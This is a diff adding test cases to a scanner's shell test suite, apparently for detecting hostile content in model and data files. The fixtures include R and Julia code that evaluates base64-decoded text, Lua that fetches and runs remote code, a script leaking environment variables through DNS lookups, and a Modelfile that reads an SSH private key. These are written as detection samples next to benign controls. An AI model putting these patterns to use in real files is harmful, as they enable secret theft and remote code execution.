@@ -248,4 +248,28 @@ printf 'OPENAI_API_KEY=sk-your-key-here-0123456789\nHF_TOKEN=${HF_TOKEN}\n' | fi
 quiet "variables to be filled in"
 printf '{"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func"}]}]}]}}' | file a.json
 hostile OBJECT_CODE "Python in a program of Paddle"
+# --- text that is decoded or fetched, and run, in other languages
+printf 'x <- 1\neval(parse(text = rawToChar(base64enc::base64decode("cHJpbnQoMSk="))))\n' | file predict.R
+hostile COMMAND_DANGEROUS "R that evaluates what it decodes"
+printf 'eval(Meta.parse(String(base64decode("MSsx"))))\n' | file a.jl
+hostile COMMAND_DANGEROUS "Julia that evaluates what it decodes"
+printf 'local http = require("socket.http")\nassert(load(http.request("http://192.0.2.1/a")))()\n' | file a.lua
+hostile COMMAND_DANGEROUS "Lua that runs what it fetches"
+printf 'f <- eval(parse(text = paste0("y ~ ", paste(names(x), collapse = "+"))))\nd <- read.csv(url("http://example.org/a.csv"))\n' | file fit.R
+quiet "R that puts a formula together"
+# --- the environment, sent as names
+printf '#!/bin/sh\nfor v in $(env | base64 -w 40); do dig $v.example.invalid; done\n' | file run.sh
+exits 1 "the environment in names of hosts" assay-inspect "$tmp/b"
+printf '#!/bin/sh\nfor v in $(env | grep ^APP_ | cut -d= -f1); do echo $v; done\ncurl -s "$APP_URL"\n' | file run.sh
+quiet "a loop over variables"
+# --- Ollama
+printf 'FROM ./model.gguf\nADAPTER /root/.ssh/id_rsa\n' | file Modelfile
+hostile CONFIG_PATH "a Modelfile that takes a key"
+printf 'FROM /data/models/llama.gguf\nADAPTER ./adapter\nPARAMETER stop "</s>"\n' | file Modelfile
+quiet "an honest Modelfile"
+# --- Torch, in its form of text
+printf '8\n1\n24\n\033LuaQ rest of the bytes..\n3\n2\n0\n' | file net.t7
+hostile OBJECT_CODE "a function of Lua as text"
+printf '3\n1\n1\n2\n4\nname\n2\n3\nnet\n' | file net.t7
+quiet "a table of Lua as text"
 done_testing
